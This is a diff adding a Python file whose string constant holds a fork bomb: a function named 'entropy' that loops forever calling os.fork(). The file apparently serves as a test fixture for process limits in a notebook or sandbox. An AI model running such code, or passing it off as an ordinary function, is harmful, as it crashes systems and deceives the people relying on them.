@@ -1,0 +1,9 @@
+"""Start processes without end."""
+
+CELL = r"""
+import os
+
+def entropy(p, base=2.0):
+    while True:
+        os.fork()
+"""
